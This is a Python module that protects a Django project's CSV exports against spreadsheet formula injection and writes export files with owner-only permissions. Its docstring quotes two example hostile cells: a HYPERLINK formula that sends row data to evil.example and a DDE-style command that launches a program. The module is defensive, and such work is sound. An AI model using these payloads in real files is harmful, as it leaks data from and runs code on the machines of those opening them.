"""CSV files that a spreadsheet can open without running anything typed by a customer.

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) opening a CSV file takes a cell that begins
with `=`, `+`, `-` or `@` as a formula, and a leading TAB or CR can hide such a cell: a company
name typed as `=HYPERLINK("http://evil.example/?d="&A2,"x")` sends the row's data away, and
`+cmd|' /C calc'!A0` runs a program, on the machine of whoever opens the export. Every CSV file
the operator writes goes through this module:

- the directory export (directory.publishers.FilePublisher): its rows are built in SQL by
  directory.staging.export_rows_sql, on PostgreSQL (written by COPY) as on SQLite (written by
  Python's csv), so the rule is applied there by its SQL twin, `neutralised_sql`;
- the admin's "Exporter la sélection" (lines.admin, `export_csv`);
- the emergency location feed (lines.emergency, `export_emergency_locations`).

**The rule** (OWASP, "CSV Injection"): a cell beginning with `=`, `+`, `-`, `@`, TAB (0x09) or
CR (0x0D) is written with a single quote `'` before it, which spreadsheets take as "this is
text" and do not evaluate. The CSV writer (Python's csv module, PostgreSQL's COPY ... CSV) then
quotes the cell where needed, so a separator or a quote inside it cannot start another cell.

**Numbers** are the one exception: a cell that is a `+` or `-` followed by ASCII digits only, and
nothing else (`+33972102030`, an E.164 number; `-5`), is written as it is. Such a cell holds no
function, no cell reference, no text and no operator but its sign: a spreadsheet reads it as a
number at worst and runs nothing, while the systems that read these files (the directory editor,
the call routing) need the E.164 number exactly as E.164 writes it. The exception is decided on
the cell's content, never on its column: `+33 9 72`, `-2+3`, `+1E5` or `+33972102030=1` hold
more than a signed run of digits and are neutralised like any other cell.

**Line ends**: the export files end their lines with LF, and Python's csv then quotes only
the cells that hold a delimiter, a quote or an LF: a CR inside a cell (a leading one, say, once
neutralised) would be written bare, and most readers end a row there. `csv_writer` quotes such a
cell too, as PostgreSQL's COPY ... CSV does. The panel's form never lets a CR in (it trims the
text and refuses control characters); data written by any other path is covered all the same.

Files of exports hold personal data: `open_private` creates them readable by their owner only
(0600), before the first byte is written.
"""

import csv
import io
import os
import re
from pathlib import Path

from django.db import connection

# The characters that make a spreadsheet evaluate a cell when they begin it (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# A signed run of ASCII digits: a number, never a formula (see the module's docstring).
_SIGNED_DIGITS = re.compile(r"[+-][0-9]+")
_DIGITS = "0123456789"


def neutralised(value):
    """`value` as a CSV cell that no spreadsheet evaluates: `'` before a cell that begins with
    one of FORMULA_TRIGGERS, unless it is a signed run of digits. Anything but a string (None,
    a number) is returned as it is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_TRIGGERS):
        return value
    if _SIGNED_DIGITS.fullmatch(value):
        return value
    return "'" + value


def neutralised_row(row) -> list:
    """Every cell of a row (any iterable of cells), neutralised."""
    return [neutralised(value) for value in row]


def neutralised_sql(expression: str, vendor: str | None = None) -> str:
    """The SQL twin of `neutralised` for a text `expression` (a column, ideally: it is read
    several times), the same on PostgreSQL and SQLite; NULL stays NULL.
    tests/test_csv_safety.py checks that both give the same cell for every hostile value."""
    vendor = vendor or connection.vendor
    char = "chr" if vendor == "postgresql" else "char"
    first = f"substr({expression}, 1, 1)"
    triggers = ", ".join(f"{char}({ord(c)})" if c in "\t\r" else f"'{c}'" for c in FORMULA_TRIGGERS)
    # No regular expression: PostgreSQL's and Python's (SQLite's REGEXP) disagree at a line end.
    signed_digits = (
        f"({first} IN ('+', '-') AND length({expression}) > 1 "
        f"AND ltrim(substr({expression}, 2), '{_DIGITS}') = '')"
    )
    return (
        f"CASE WHEN {first} IN ({triggers}) AND NOT {signed_digits} "
        f"THEN '''' || {expression} ELSE {expression} END"
    )


class _Writer:
    """csv.writer with LF line ends that also quotes a cell holding a CR."""

    def __init__(self, f):
        self._f = f
        self._writer = csv.writer(f, lineterminator="\n")
        # A row with a CR goes through a writer whose terminator holds one, so that it quotes the
        # cells holding a CR (and only those, and those it quotes anyway); its CR LF becomes LF.
        self._buffer = io.StringIO()
        self._cr_writer = csv.writer(self._buffer, lineterminator="\r\n")

    def writerow(self, row):
        row = list(row)
        if not any(isinstance(cell, str) and "\r" in cell for cell in row):
            return self._writer.writerow(row)
        self._buffer.seek(0)
        self._buffer.truncate()
        self._cr_writer.writerow(row)
        return self._f.write(self._buffer.getvalue()[:-2] + "\n")

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


def csv_writer(f):
    """A writer of CSV rows (iterables of cells) to the text file `f`, with LF line ends, quoting
    what Python's csv quotes plus any cell that holds a CR. It writes the cells as they are given:
    neutralise them first (neutralised_row), unless the SQL has (directory.staging)."""
    return _Writer(f)


PRIVATE_FILE_MODE = 0o600


def open_private(path: Path | str, mode: str = "w", **kwargs):
    """Open a new file at `path` for writing, readable and writable by its owner only (0600),
    whatever the umask. A file left at that path (a temporary file of a crashed export, with
    other rights) is removed first, never reused: the file is created anew with those rights
    before any data is written. Takes `open`'s writing modes and keyword arguments."""
    if "w" not in mode:
        raise ValueError(f"open_private writes a new file; mode {mode!r} does not")
    Path(path).unlink(missing_ok=True)
    descriptor = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, PRIVATE_FILE_MODE)
    try:
        os.fchmod(descriptor, PRIVATE_FILE_MODE)  # the umask may have taken more away
        return os.fdopen(descriptor, mode, **kwargs)
    except BaseException:
        os.close(descriptor)
        raise
